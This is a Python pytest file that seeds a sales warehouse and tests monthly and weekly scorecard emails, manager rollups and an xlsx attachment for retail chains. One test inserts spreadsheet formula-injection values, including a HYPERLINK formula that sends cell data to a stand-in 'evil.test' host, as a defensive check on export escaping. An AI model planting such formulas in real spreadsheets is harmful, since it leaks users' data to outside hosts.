"""Scorecards built from hand-inserted mart and ops rows, rendered in zh-CN and en.

The warehouse content (``seed``) is small and every expected figure below is computed
by hand from it; ``seed`` and ``ref_rows`` are reused by test_delivery.py.
"""

from __future__ import annotations

import io
from datetime import date, datetime, timedelta
from decimal import Decimal

import pytest
import sqlalchemy as sa

from ka_pipeline.scorecard import (
    build_rollups,
    build_scorecards,
    compress_dates,
    fmt_money,
    fmt_pct,
    render,
    text_sparkline,
    trend_png,
)

OCT = date(2026, 10, 1)
OCT_END = date(2026, 10, 31)
AS_OF = date(2026, 11, 3)


def ref_rows() -> dict[str, list[dict]]:
    """Master data as publish_master_data leaves it: owner LN (zh-CN) owns CRF and RTM,
    JS (en) owns WMT, XX owns nothing; LN and JS report to wang.qiang (the manager)."""
    boss = "wang.qiang@example.com"
    owners = [
        dict(owner_code="LN", name="李娜", email="li.na@example.com", locale="zh-CN",
             manager_email=boss),
        dict(owner_code="JS", name="John Smith", email="john.smith@example.com", locale="en",
             manager_email=boss),
        dict(owner_code="XX", name="No Chains", email="nobody@example.com", locale="en",
             manager_email=None),
    ]  # fmt: skip
    chains = [
        dict(chain_code=code, name=name, name_local=local, format="hypermarket",
             region="East", settlement_mode="购销", payment_terms_days=60,
             dispute_window_days=90, owner_code=owner)
        for code, name, local, owner in [
            ("CRF", "Carrefour", "家乐福", "LN"),
            ("RTM", "RT-Mart", "大润发", "LN"),
            ("WMT", "Walmart", "沃尔玛", "JS"),
        ]
    ]  # fmt: skip
    stores = [
        dict(chain_code=chain, store_code=code, name=name, name_en=name_en, city="上海",
             region="East", area_m2=6000, store_class="A", opened_on=date(2020, 1, 1),
             closed_on=None)
        for chain, code, name, name_en in [
            ("CRF", "C01", "上海古北店", "Shanghai Gubei"),
            ("CRF", "C02", "上海曲阳店", None),
            ("CRF", "C03", "北京中关村店", None),
            ("CRF", "C04", "杭州庆春店", None),
            ("CRF", "C05", "南京新街口店", None),
            ("WMT", "W01", "沃尔玛深圳店", "Walmart Shenzhen"),
            ("WMT", "W02", "沃尔玛广州店", None),
        ]
    ]  # fmt: skip
    contracts = [
        dict(chain_code=c, contract_year=2026, start_date=s, end_date=e, rebate_base="sell_in",
             rebate_method="retroactive", rebate_promo_excluded=True)
        for c, s, e in [
            ("CRF", date(2026, 1, 1), date(2026, 12, 31)),
            ("WMT", date(2026, 4, 1), date(2027, 3, 31)),
        ]
    ]  # fmt: skip
    return {"ref_owner": owners, "ref_chain": chains, "ref_store": stores,
            "ref_contract": contracts}  # fmt: skip


def _month_row(chain, month, sellout, **kw):
    row = dict(
        chain_code=chain,
        month=month,
        sellout_amount=Decimal(sellout),
        sellout_units=1000,
        sellout_amount_ly=None,
        yoy_growth=None,
        target_amount=None,
        target_achievement=None,
        sell_in_net=Decimal("0.00"),
        active_stores=0,
        distribution_pairs=0,
        distribution_pairs_sold=0,
        distribution_rate=None,
        promo_amount=Decimal("0.00"),
        promo_share=None,
        trade_spend=Decimal("0.00"),
        trade_spend_rate=None,
        sales_days=0,
        price_compliance=None,
        null_reasons=None,
    )
    row.update(kw)
    return row


def _insert(conn: sa.Connection, table: str, rows: list[dict]) -> None:
    cols = list(rows[0])
    conn.execute(
        sa.text(
            f"insert into {table} ({', '.join(cols)}) values ({', '.join(':' + c for c in cols)})"
        ),
        rows,
    )


def _invoice(chain, no, invoice_date, due, gross, open_balance):
    """An int_invoice_balance row (mart_invoice_balance is a view over it)."""
    paid = Decimal(gross) - Decimal(open_balance)
    return dict(chain_code=chain, invoice_no=no, invoice_date=invoice_date, due_date=due,
                gross_amount=Decimal(gross), paid_amount=paid,
                open_balance=Decimal(open_balance), last_payment_date=None,
                last_business_date=OCT_END)  # fmt: skip


def _day(chain, day, status):
    reason = {"ok": None, "incomplete": "sales missing", "failed": "sales file rejected"}
    return dict(chain_code=chain, business_date=day, status=status, reason=reason[status],
                updated_at=datetime(2026, 11, 1))  # fmt: skip


def seed_ref(engine: sa.Engine) -> None:
    """Only the master data: an otherwise empty warehouse."""
    with engine.begin() as conn:
        for table, rows_ in ref_rows().items():
            _insert(conn, table, rows_)


def _load(chain, feed, day, status="loaded", quarantined=0, name=None):
    return dict(
        chain_code=chain,
        feed=feed,
        business_date=day,
        file_name=name or f"{feed}_{day:%Y%m%d}.csv",
        file_path=f"feeds/{chain}/{feed}_{day:%Y%m%d}.csv",
        checksum="x",
        rows_read=1200,
        rows_loaded=1200 - quarantined,
        rows_quarantined=quarantined,
        status=status,
        message="bad header" if status == "rejected" else None,
        started_at=datetime(2026, 11, 1),
        finished_at=datetime(2026, 11, 1),
    )


EVIDENCE = {  # as mart_deduction_check words it (sql/marts/mart_deduction_check.sql)
    "no_contract_basis": "contract 2026 has no dm_fee item; charged 5000.00",
    "duplicate": "same type, reference and period already deducted on statement S0 line D8",
}


def _deduction(
    chain, stmt, no, text, status, amount, disputable, deadline, business=date(2026, 10, 8)
):
    return dict(
        chain_code=chain,
        statement_no=stmt,
        deduction_no=no,
        business_date=business,
        deduction_date=business,
        deduction_type="dm_fee",
        deduction_text=text,
        reference=None,
        store_code=None,
        barcode=None,
        period_start=None,
        period_end=None,
        amount=Decimal(amount),
        status=status,
        expected_amount=Decimal(amount) - Decimal(disputable),
        disputable_amount=Decimal(disputable),
        evidence=EVIDENCE.get(status, f"evidence {stmt}/{no}"),
        dispute_deadline=deadline,
    )


def _rebate(chain, year, as_of, base, tier, rate, earned, taken, nxt, thr, gap):
    return dict(
        chain_code=chain,
        contract_year=year,
        as_of_date=as_of,
        eligible_base_ytd=Decimal(base),
        tier_no_reached=tier,
        rate_reached=None if rate is None else Decimal(rate),
        rebate_earned=Decimal(earned),
        rebate_taken=Decimal(taken),
        rebate_balance=Decimal(earned) - Decimal(taken),
        projection_method=None,
        projected_base=None,
        projected_tier_no=None,
        projected_rate=None,
        projected_rebate=None,
        next_tier_no=nxt,
        next_tier_threshold=None if thr is None else Decimal(thr),
        gap_to_next_tier=None if gap is None else Decimal(gap),
    )


def seed(engine: sa.Engine) -> None:
    """The warehouse of October 2026 as the models and loaders would leave it."""
    months = []
    # CRF: 13 months of trend, February 2026 missing.
    trend = [900, 950, 1000, 1400, None, 800, 980, 1010, 1050, 1100, 1150, 1200]
    for i, amount in enumerate(trend):
        month = date(2025 + (9 + i) // 12, (9 + i) % 12 + 1, 1)
        if amount is not None:
            months.append(_month_row("CRF", month, f"{amount * 1000}.00"))
    months.append(
        _month_row(
            "CRF",
            OCT,
            "1234567.89",
            sellout_units=45678,
            sellout_amount_ly=Decimal("1097393.68"),
            yoy_growth=Decimal("0.125000"),
            target_amount=Decimal("1300000.00"),
            target_achievement=Decimal("0.949668"),
            sell_in_net=Decimal("987654.32"),
            active_stores=42,
            distribution_pairs=400,
            distribution_pairs_sold=349,
            distribution_rate=Decimal("0.873500"),
            promo_amount=Decimal("225925.92"),
            promo_share=Decimal("0.183000"),
            trade_spend=Decimal("69135.80"),
            trade_spend_rate=Decimal("0.070000"),
            sales_days=27,
        )
    )
    # RTM: a target, no last year.
    months.append(
        _month_row(
            "RTM",
            OCT,
            "500000.00",
            target_amount=Decimal("400000.00"),
            target_achievement=Decimal("1.250000"),
            sell_in_net=Decimal("420000.00"),
            active_stores=12,
        )
    )
    months.append(
        _month_row(
            "WMT",
            OCT,
            "2000000.00",
            sellout_amount_ly=Decimal("2200000.00"),
            yoy_growth=Decimal("-0.090909"),
            target_amount=Decimal("1800000.00"),
            target_achievement=Decimal("1.111111"),
            sell_in_net=Decimal("1500000.00"),
            active_stores=30,
            distribution_rate=Decimal("0.912300"),
            promo_share=Decimal("0.050000"),
            trade_spend=Decimal("105000.00"),
            trade_spend_rate=Decimal("0.070000"),
            sales_days=30,
            price_compliance=Decimal("0.950000"),
            null_reasons="oos_rate: no on-hand sent; lfl_growth: no stores open through both",
        )
    )
    stores = [
        dict(
            chain_code="CRF",
            store_code=code,
            month=OCT,
            sellout_amount=Decimal("100000.00"),
            sellout_units=10,
            sellout_amount_ly=None if yoy is None else Decimal("90000.00"),
            yoy_growth=None if yoy is None else Decimal(yoy),
        )
        for code, yoy in [
            ("C01", "0.300000"),
            ("C02", "0.100000"),
            ("C03", "-0.050000"),
            ("C04", "-0.200000"),
            ("C05", None),
            ("C06", "-0.010000"),
            ("C07", "0.020000"),
        ]
    ]
    stores += [
        dict(chain_code="WMT", store_code=code, month=OCT, sellout_amount=Decimal("100000.00"),
             sellout_units=10, sellout_amount_ly=Decimal("95000.00"), yoy_growth=Decimal(yoy))
        for code, yoy in [("W01", "0.050000"), ("W02", "-0.030000")]
    ]  # fmt: skip
    rebates = [
        _rebate(
            "CRF",
            2025,
            date(2025, 12, 31),
            "9100000.00",
            2,
            "0.0250",
            "227500.00",
            "227500.00",
            None,
            None,
            None,
        ),
        _rebate(
            "CRF",
            2026,
            date(2026, 9, 30),
            "7600000.00",
            None,
            None,
            "0.00",
            "0.00",
            1,
            "8000000.00",
            "400000.00",
        ),
        _rebate(
            "CRF",
            2026,
            date(2026, 10, 31),
            "8500000.00",
            1,
            "0.0200",
            "170000.00",
            "180000.00",
            2,
            "9000000.00",
            "500000.00",
        )
        # the run rate projects 8,900,000 at year end: still 100,000 short of tier 2
        | dict(
            projection_method="run_rate",
            projected_base=Decimal("8900000.00"),
            projected_tier_no=1,
            projected_rate=Decimal("0.0200"),
            projected_rebate=Decimal("178000.00"),
        ),
        _rebate(
            "CRF",
            2026,
            date(2026, 11, 30),
            "9500000.00",
            2,
            "0.0250",
            "237500.00",
            "180000.00",
            None,
            None,
            None,
        ),
        _rebate(
            "WMT",
            2026,
            date(2026, 10, 31),
            "12000000.00",
            3,
            "0.0300",
            "360000.00",
            "300000.00",
            None,
            None,
            None,
        ),
    ]
    deductions = [
        _deduction(
            "CRF",
            "S1",
            "D1",
            "DM海报费",
            "no_contract_basis",
            "5000.00",
            "5000.00",
            date(2026, 11, 20),
        ),
        _deduction(
            "CRF", "S1", "D2", "堆头费", "over_contract", "12000.00", "3500.50", date(2026, 11, 3)
        ),
        _deduction("CRF", "S1", "D3", "条码费", "valid", "800.00", "0.00", date(2026, 12, 1)),
        _deduction(
            "CRF",
            "S0",
            "D9",
            "店庆费",
            "duplicate",
            "8000.00",
            "8000.00",
            date(2026, 10, 31),
            business=date(2026, 8, 2),
        ),
        _deduction(
            "CRF",
            "S2",
            "D1",
            "节庆费",
            "no_contract_basis",
            "9999.00",
            "9999.00",
            date(2027, 2, 1),
            business=date(2026, 11, 10),
        ),  # not received by as_of
        _deduction(
            "RTM",
            "R1",
            "D1",
            "促销补差",
            "promo_overclaim",
            "2400.00",
            "1234.56",
            date(2026, 12, 1),
        ),
        _deduction(
            "WMT",
            "W1",
            "D1",
            "Rebate Q3",
            "rebate_over_taken",
            "10000.00",
            "2500.00",
            date(2026, 11, 4),
        ),
    ]
    missing = {date(2026, 10, 5), date(2026, 10, 6), date(2026, 10, 7), date(2026, 10, 15)}
    loads = []
    for i in range(31):
        day = OCT + timedelta(days=i)
        if day not in missing:
            loads.append(_load("CRF", "sales", day, quarantined=3 if day.day == 20 else 0))
        loads.append(_load("RTM", "sales", day))
        if day.day != 31:
            loads.append(_load("WMT", "sales", day))
    loads += [
        _load("CRF", "sales", date(2026, 10, 15), status="rejected"),
        _load("CRF", "sales", date(2026, 10, 10), status="superseded", quarantined=5),
        _load("CRF", "invoices", date(2026, 10, 12), status="rejected", name="inv_bad.csv"),
        _load("CRF", "invoices", date(2026, 10, 12), name="inv_fixed.csv"),
        _load("CRF", "sales", date(2026, 9, 30), status="rejected"),  # another month
    ]
    # ops_chain_day: what each chain's runs recorded. CRF: the sales file of 5-7 and 15
    # October missing (15: rejected), the rest ok; RTM all ok; WMT ok to the 30th with
    # the 31st incomplete.
    days = []
    for i in range(31):
        day = OCT + timedelta(days=i)
        crf = "failed" if day.day == 15 else "incomplete" if day in missing else "ok"
        days.append(_day("CRF", day, crf))
        days.append(_day("RTM", day, "ok"))
        days.append(_day("WMT", day, "incomplete" if day.day == 31 else "ok"))
    review = [  # statement of 8 October, received; age and days left count from AS_OF
        dict(chain_code="CRF", statement_no="S1", deduction_no="D7",
             statement_date=date(2026, 10, 8), deduction_date=date(2026, 10, 8),
             deduction_text="Admin fee", amount=Decimal("300.00"), store_code=None,
             reference=None, as_of_date=OCT_END, age_days=23,
             dispute_deadline=date(2027, 1, 6)),
    ]  # fmt: skip
    invoices = [
        _invoice("CRF", "INV1", date(2026, 7, 1), date(2026, 8, 30), "11300.00", "11300.00"),
        _invoice("CRF", "INV2", date(2026, 9, 1), date(2026, 10, 31), "5650.00", "5000.00"),
        _invoice("CRF", "INV3", date(2026, 9, 11), date(2026, 11, 10), "900.00", "900.00"),
        _invoice("CRF", "INV4", date(2026, 6, 1), date(2026, 7, 31), "700.00", "0.00"),
    ]
    weeks = [
        dict(chain_code="CRF", iso_year=2026, iso_week=44, week_start=date(2026, 10, 26),
             week_end=date(2026, 11, 1), sellout_amount=Decimal("300000.00"),
             sellout_units=9000, sellout_amount_ly=Decimal("250000.00"),
             yoy_growth=Decimal("0.200000"), sell_in_net=Decimal("210000.00"), active_stores=40,
             promo_amount=Decimal("0.00"), promo_share=Decimal("0.000000"), sales_days=6),
    ]  # fmt: skip
    with engine.begin() as conn:
        for table, rows_ in ref_rows().items():
            _insert(conn, table, rows_)
        _insert(conn, "ops_chain_day", days)
        _insert(conn, "mart_deduction_review", review)
        _insert(conn, "int_invoice_balance", invoices)
        _insert(conn, "int_chain_as_of", [dict(chain_code="CRF", last_data_date=OCT_END)])
        _insert(conn, "mart_chain_week", weeks)
        _insert(conn, "mart_chain_month", months)
        _insert(conn, "mart_store_month", stores)
        _insert(conn, "mart_rebate_progress", rebates)
        _insert(conn, "mart_deduction_check", deductions)
        _insert(conn, "ops_load_log", loads)


GTIN = "6901234567892"


def seed_analytics(engine: sa.Engine) -> None:
    """The issue-8 analytics marts (tables of migrations 0040/0041).

    CRF: C01 sold below the floor on 10 and 11 October, 10 units a day at 8.00 against
    9.50 (gap (9.50 - 8.00) x 10 = 15.00 a day, 30.00 in all); C02 out of stock 20-22
    October, 4 units worth 40.00 lost a day (120.00); C03 a phantom run of 26 days; one
    promotion ended 14 October; South at diversion risk in the week of 12 October.
    WMT: nothing in any of them."""
    with engine.begin() as conn:
        _insert(conn, "mart_price_below_floor", [
            dict(chain_code="CRF", store_code="C01", barcode=GTIN, business_date=day,
                 region="East", units=Decimal(10), sales_amount=Decimal("80.00"),
                 unit_price=Decimal("8.00"), required_price=Decimal("9.50"),
                 floor_price=Decimal("9.50"), promo_id=None, gap_amount=Decimal("15.00"))
            for day in (date(2026, 10, 10), date(2026, 10, 11))
        ])  # fmt: skip
        _insert(conn, "mart_oos_day", [
            dict(chain_code="CRF", store_code="C02", barcode=GTIN, business_date=day,
                 lost_units=Decimal(4), lost_sales_amount=Decimal("40.00"),
                 in_stock_days_28d=25, units_28d=100, sales_amount_28d=Decimal("1000.00"))
            for day in (date(2026, 10, 20), date(2026, 10, 21), date(2026, 10, 22))
        ])  # fmt: skip
        _insert(conn, "mart_phantom_inventory", [
            dict(chain_code="CRF", store_code="C03", barcode=GTIN, run_start=date(2026, 9, 25),
                 run_end=date(2026, 10, 20), zero_days=26, on_hand_units=Decimal(12),
                 trailing_daily_units=Decimal("0.8"), extends_on=date(2026, 10, 21))
        ])  # fmt: skip
        _insert(conn, "mart_promo_eval", [
            dict(chain_code="CRF", promo_id="P-OCT", start_date=OCT, end_date=date(2026, 10, 14),
                 baseline_method="pre_28d", lift_units=Decimal(500),
                 incremental_gp=Decimal("1500.00"), cost_amount=Decimal("1000.00"),
                 roi=Decimal("0.500000"), execution_rate=Decimal("0.800000"),
                 participating_stores=12, executing_stores=10, items=1)
        ])  # fmt: skip
        _insert(conn, "mart_diversion_risk", [
            dict(chain_code="CRF", barcode=GTIN, iso_week=date(2026, 10, 12), region=region,
                 avg_unit_price=Decimal(price), price_gap=Decimal("0.150000"),
                 floor_price=Decimal("9.50"), sellout_units_4w=Decimal(100),
                 shipped_units_4w=Decimal(100), at_risk=risk, sellout_units=25,
                 region_count=2,
                 risk_reason="price" if risk else None)
            for region, price, risk in [("South", "8.50", True), ("East", "10.00", False)]
        ])  # fmt: skip
        _insert(conn, "mart_account_eval", [
            dict(chain_code="CRF", month=OCT, attractiveness_score=Decimal("72.00"),
                 support_score=Decimal("55.00"), attractiveness_grade="B", support_grade="C",
                 quadrant="high/low", parts="{}")
        ])  # fmt: skip


@pytest.fixture
def cards(engine):
    seed(engine)
    seed_analytics(engine)
    return {c.owner.code: c for c in build_scorecards(engine, "month", OCT, AS_OF)}


# ---------------------------------------------------------------- pure functions


def test_formatting():
    assert fmt_money(Decimal("1234567.885")) == "¥1,234,567.89"
    assert fmt_money(Decimal("-10000")) == "-¥10,000.00"
    assert fmt_money(None) == "—"
    assert fmt_pct(Decimal("0.125")) == "12.5%"
    assert fmt_pct(Decimal("0.125"), signed=True) == "+12.5%"
    assert fmt_pct(Decimal("-0.090909"), signed=True) == "-9.1%"
    assert fmt_pct(Decimal("0.8735")) == "87.4%"
    assert fmt_pct(Decimal("-0.0001"), signed=True) == "0.0%"
    assert fmt_pct(None) == "—"
    days = [date(2026, 10, d) for d in (5, 6, 7, 15)]
    assert compress_dates(days, "en") == "10-05–10-07, 10-15"
    assert compress_dates(days, "zh") == "10月5日–10月7日、10月15日"
    assert text_sparkline([Decimal(1), None, Decimal(8)]) == "▁·█"


def test_trend_png_is_small_valid_png():
    png = trend_png([Decimal(v) for v in range(1, 13)] + [None])
    assert png.startswith(b"\x89PNG\r\n\x1a\n")
    assert len(png) < 10_000
    assert trend_png([None] * 13).startswith(b"\x89PNG")  # no data at all


# ---------------------------------------------------------------- built from the warehouse


def test_one_scorecard_per_owner_with_chains(cards):
    assert sorted(cards) == ["JS", "LN"]  # XX owns no chain
    assert [c.code for c in cards["LN"].chains] == ["CRF", "RTM"]
    assert [c.code for c in cards["JS"].chains] == ["WMT"]
    assert cards["LN"].message_key == "LN|month|2026-10-01"


def test_figures(cards):
    crf, rtm = cards["LN"].chains
    assert crf.kpi.sellout_amount == Decimal("1234567.89")
    assert rtm.kpi.sellout_amount_ly is None
    trend = [v for _, v in crf.trend]
    assert len(trend) == 13 and trend[0] == Decimal("900000.00") and trend[4] is None
    assert trend[-1] == Decimal("1234567.89")
    # Latest row of the 2026 contract year on or before 31 October.
    assert crf.rebate.as_of_date == date(2026, 10, 31)
    assert crf.rebate.rebate_balance == Decimal("-10000.00")
    assert rtm.rebate is None
    h = cards["LN"].headline
    assert h.sellout == Decimal("1734567.89")
    assert round(h.achievement, 6) == Decimal("1.020334")  # 1,734,567.89 / 1,700,000
    assert round(h.yoy, 6) == Decimal("0.125000")  # only CRF has LY
    # Top 3 by YoY, then the weakest not already listed; C05 has no LY.
    assert [s.store_code for s in crf.top_stores] == ["C01", "C02", "C07"]
    assert [s.store_code for s in crf.bottom_stores] == ["C04", "C03", "C06"]
    assert crf.top_stores[0].store_name == "上海古北店"


def test_deductions_sorted_with_days_left(cards):
    rows = [
        (d.chain_code, d.deduction_no, d.disputable_amount, d.days_left)
        for d in cards["LN"].deductions
    ]
    assert rows == [
        ("CRF", "D1", Decimal("5000.00"), 17),
        ("CRF", "D2", Decimal("3500.50"), 0),  # deadline today still counts
        ("RTM", "D1", Decimal("1234.56"), 28),
    ]
    assert [(d.deduction_no, d.days_left) for d in cards["JS"].deductions] == [("D1", 1)]


def test_feed_problems(cards):
    crf, rtm = cards["LN"].chains
    # from ops_chain_day: 5-7 October incomplete (sales missing), the 15th failed
    assert crf.missing_sales_dates == [date(2026, 10, d) for d in (5, 6, 7)]
    assert [(g.business_date.day, g.status) for g in crf.day_gaps] == [
        (5, "incomplete"), (6, "incomplete"), (7, "incomplete"), (15, "failed")
    ]  # fmt: skip
    problems = [
        (p.business_date.day, p.feed, p.status, p.rows_quarantined) for p in crf.feed_problems
    ]
    assert problems == [(15, "sales", "rejected", 0), (20, "sales", "loaded", 3)]
    assert rtm.missing_sales_dates == [] and rtm.feed_problems == []
    assert cards["JS"].chains[0].missing_sales_dates == [date(2026, 10, 31)]


def test_days_before_a_chains_first_file_are_not_missing(engine):
    """The defect: _missing_sales counted 1-9 October for a chain whose first sales file
    is of the 10th. ops_chain_day starts at the chain's first day, so they are not gaps."""
    seed_ref(engine)
    with engine.begin() as conn:
        _insert(conn, "ops_chain_day", [_day("RTM", OCT + timedelta(days=i), "ok")
                                        for i in range(9, 31)])  # fmt: skip
        _insert(conn, "ops_load_log", [_load("RTM", "sales", OCT + timedelta(days=i))
                                       for i in range(9, 31)])  # fmt: skip
    card = {c.owner.code: c for c in build_scorecards(engine, "month", OCT, AS_OF)}["LN"]
    crf, rtm = card.chains
    assert rtm.history_start == date(2026, 10, 10)
    assert rtm.day_gaps == [] and rtm.missing_sales_dates == []
    assert crf.history_start is None  # CRF never sent a file: said, not 31 missing days
    text = render(card).text
    assert "该系统尚未加载任何文件。" in text and "缺少每日销售文件" not in text


def test_review_and_overdue(cards):
    crf = cards["LN"].chains[0]
    [line] = crf.review
    # statement of 8 October, as of 3 November: 26 days old; deadline 6 January 2027:
    # 27 days left in November after the 3rd + 31 in December + 6 = 64
    assert (line.deduction_no, line.age_days, line.days_left) == ("D7", 26, 64)
    # INV1 due 30 August: 1 + 30 + 31 + 3 = 65 days overdue; INV2 due 31 October: 3 days;
    # INV3 is not due yet and INV4 is paid
    assert [(o.invoice_no, o.open_balance, o.days_overdue, o.bucket) for o in crf.overdue] == [
        ("INV1", Decimal("11300.00"), 65, "61-90"),
        ("INV2", Decimal("5000.00"), 3, "0-30"),
    ]


def test_analytics_sections(cards):
    a = cards["LN"].chains[0].analytics
    [bf] = a.below_floor
    assert (bf.store_code, bf.store_name, bf.days, bf.units, bf.gap_amount) == (
        "C01", "上海古北店", 2, Decimal(20), Decimal("30.00")
    )  # fmt: skip
    [oos] = a.out_of_stock
    assert (oos.store_code, oos.days, oos.lost_sales_amount) == ("C02", 3, Decimal("120.00"))
    assert [p.zero_days for p in a.phantom] == [26]
    assert [(d.region, d.risk_reason) for d in a.diversion] == [("South", "price")]
    assert [p.promo_id for p in a.promos] == ["P-OCT"]
    assert a.account.attractiveness_grade == "B"
    wmt = cards["JS"].chains[0].analytics  # tables there, no rows: nothing to show
    assert wmt.below_floor == [] and wmt.out_of_stock == [] and wmt.account is None
    text = render(cards["JS"]).text
    assert "No sale below the floor price." in text and "No must-carry item out of stock." in text
    assert "No evaluation for this chain yet." in text


def test_first_screen_is_what_needs_action(cards):
    text = render(cards["LN"]).text
    first = text.split("需要处理", 1)[1].split("总览", 1)[0]
    # 5,000.00 + 3,500.50 + 1,234.56 = 9,735.06; the earliest deadline is today
    assert "申诉 3 笔扣款，共 ¥9,735.06；最早截止 2026年11月3日（今天截止）。" in first
    assert "核对 1 笔未分类扣款（¥300.00）" in first
    assert "催收逾期应收 ¥16,300.00，共 2 张发票" in first  # 11,300.00 + 5,000.00
    assert "家乐福：系统多扣返利 ¥10,000.00" in first
    # the projection (8,900,000) does not reach tier 2 (9,000,000): push
    assert "家乐福：距第2档还差进货额 ¥500,000.00；预计年末 ¥8,900,000.00。" in first
    assert "1 个门店单品低于最低限价销售（低于应售价合计 ¥30.00）。" in first
    assert "1 个门店单品缺货；估算损失销售额 ¥120.00。" in first
    assert "4 天文件缺失或被拒；1 个文件有隔离行。" in first  # 5, 6, 7 and 15 October
    assert len(first.strip().splitlines()) <= 12  # short


def test_render_zh(cards):
    mail = render(cards["LN"])
    assert mail.subject == "【KA月度记分卡】2026年10月 · 家乐福、大润发"
    for body in (mail.html, mail.text):
        assert "¥1,234,567.89" in body
        assert "+12.5%" in body
        assert "95.0%" in body and "125.0%" in body and "87.4%" in body
        assert "销售额" in body and "待申诉扣款" in body
        assert "剩 17 天" in body and "今天截止" in body and "剩 28 天" in body
        assert "10月5日–10月7日" in body and "10月15日" in body
        assert "-¥10,000.00" in body and "¥500,000.00" in body  # rebate balance, gap
        assert "¥100,000.00" in body  # projected gap: 9,000,000 - 8,900,000
        assert "无合同依据" in body and "超出合同金额" in body
        assert "逾期 65 天" in body and "已 26 天" in body
        assert "上海古北店" in body and "缺货 3 天" in body and "P-OCT" in body
        assert "Sell-out" not in body and "days left" not in body
        assert "沃尔玛" not in body and "WMT" not in body  # not this owner's chain
        assert "—" in body  # RTM has no LY
        assert "系统 2026" not in body and " 的" not in body  # no stray spaces
        assert "以下是您负责的系统2026年10月的记分卡（数据截至2026年11月3日）。" in body
    assert (
        mail.text.index("¥5,000.00") < mail.text.index("¥3,500.50") < mail.text.index("¥1,234.56")
    )
    text = mail.text
    assert "+12.5% ▲" in text and "95.0% ▼" in text and "125.0% ▲" in text
    assert "102.0% ▲" in text  # headline achievement
    assert '<span style="color:#15803d;">▲</span>' in mail.html
    assert '<span style="color:#b91c1c;">▼</span>' in mail.html
    # Inline charts, one per chain, referenced by cid in the HTML.
    assert len(mail.inline_images) == 2
    for cid, png in mail.inline_images.items():
        assert f'src="cid:{cid}"' in mail.html
        assert png.startswith(b"\x89PNG\r\n\x1a\n")
    assert "http://" not in mail.html and "https://" not in mail.html
    assert "max-width:640px" in mail.html


def test_render_en(cards):
    mail = render(cards["JS"])
    assert mail.subject == "[KA monthly scorecard] October 2026 · Walmart"
    for body in (mail.html, mail.text):
        assert "¥2,000,000.00" in body and "111.1%" in body and "-9.1%" in body
        assert "1 day left" in body and "rebate over-taken" in body
        assert "highest tier reached" in body
        assert "Missing daily sales files (1)" in body and "10-31" in body
        assert "Carrefour" not in body
        # English store names where given, the local name otherwise
        assert "Walmart Shenzhen" in body and "沃尔玛深圳店" not in body
        assert "沃尔玛广州店" in body
    assert "-9.1% ▼" in mail.text and "111.1% ▲" in mail.text
    # a KPI without its inputs says why (mart_chain_month.null_reasons)
    assert "Price compliance: 95.0%" in mail.text
    assert "Out-of-stock rate: not computed (no on-hand sent)" in mail.text
    assert "Like-for-like growth: not computed (no stores open through both)" in mail.html
    assert "销售额" not in mail.text


def test_weekly_scorecard(cards, engine):
    """The ISO week 26 October - 1 November 2026 (week 44: 1 January 2026 is a Thursday,
    so week 1 starts 29 December 2025; 301 days later is the Monday of week 44)."""
    week = {
        c.owner.code: c
        for c in build_scorecards(engine, "week", date(2026, 10, 26), date(2026, 11, 1))
    }
    ln = week["LN"]
    assert ln.message_key == "LN|week|2026-10-26"
    crf = ln.chains[0]
    assert crf.kpi.sellout_amount == Decimal("300000.00") and crf.kpi.target_amount is None
    assert [d for d, _ in crf.trend][0] == date(2026, 8, 3)  # 12 weeks before
    # 1 November has no ops_chain_day row yet: not run
    assert [(g.business_date, g.status) for g in crf.day_gaps] == [(date(2026, 11, 1), "not_run")]
    mail = render(ln)
    assert mail.subject == "【KA周记分卡】2026年第44周（10月26日–11月1日） · 家乐福、大润发"
    assert "+20.0% ▲" in mail.text and "无周目标" in mail.text and "近13周销售额" in mail.text
    assert "Week 44 2026 (26 Oct – 1 Nov)" in render(week["JS"]).subject
    with pytest.raises(ValueError, match="Monday"):
        build_scorecards(engine, "week", date(2026, 10, 27), AS_OF)


def test_manager_rollup(cards, engine):
    [team] = build_rollups(engine, "month", OCT, AS_OF)
    assert team.owner.code == "team-wang.qiang@example.com" and team.rollup
    assert team.owner.locale == "zh-CN"  # one zh-CN and one en owner: ties go to zh-CN
    assert [c.code for c in team.chains] == ["CRF", "RTM", "WMT"]
    h = team.headline
    # 1,234,567.89 + 500,000.00 + 2,000,000.00
    assert h.sellout == Decimal("3734567.89")
    # all three have a target: 3,734,567.89 / (1,300,000 + 400,000 + 1,800,000) = 106.7 %
    assert fmt_pct(h.achievement) == "106.7%"
    # CRF and WMT have LY: (1,234,567.89 + 2,000,000) / (1,097,393.68 + 2,200,000) - 1
    assert fmt_pct(h.yoy, signed=True) == "-1.9%"
    mail = render(team)
    assert mail.subject == "【KA团队记分卡】2026年10月 · 3个系统"
    assert mail.to == "wang.qiang@example.com" and mail.inline_images == {}
    text = mail.text
    for line in ("家乐福 CRF · 李娜", "大润发 RTM · 李娜", "沃尔玛 WMT · John Smith"):
        assert line in text
    assert "团队合计 · 销售额 ¥3,734,567.89" in text
    worst = text.split("团队最需处理的事项", 1)[1]
    # the team's deductions, largest first, across owners
    assert worst.index("¥5,000.00") < worst.index("¥3,500.50") < worst.index("¥2,500.00")
    assert "INV1" in worst and "上海古北店" in worst
    for body in (mail.html, text):
        assert "¥3,734,567.89" in body


def test_xlsx_attachment(cards, engine):
    from openpyxl import load_workbook

    with engine.begin() as conn:  # a chain's text written to become a live formula
        _insert(conn, "mart_deduction_check", [_deduction(
            "RTM", "R1", "D9", '=HYPERLINK("http://evil.test/?x="&A1,"促销补差")',
            "duplicate", "777.00", "777.00", date(2026, 12, 1))])  # fmt: skip
        _insert(conn, "mart_deduction_review", [dict(
            chain_code="RTM", statement_no="R1", deduction_no="D10",
            statement_date=date(2026, 10, 9), deduction_date=date(2026, 10, 9),
            deduction_text="@SUM(1+1)", amount=Decimal("10.00"), store_code="\t-1",
            reference=None, as_of_date=OCT_END, age_days=0,
            dispute_deadline=date(2027, 1, 7))])  # fmt: skip
    card = {c.owner.code: c for c in build_scorecards(engine, "month", OCT, AS_OF)}["LN"]
    mail = render(card)
    [(name, data)] = mail.attachments.items()
    assert name == "scorecard-details_LN_2026-10.xlsx"
    wb = load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["待申诉扣款", "待核对扣款", "逾期发票", "低于限价销售", "缺货"]
    ws = wb["待申诉扣款"]
    header = [c.value for c in ws[1]]
    assert header[:4] == ["系统代码", "系统名称", "对账单号", "扣款单号"]
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == f"A1:Q{ws.max_row}"
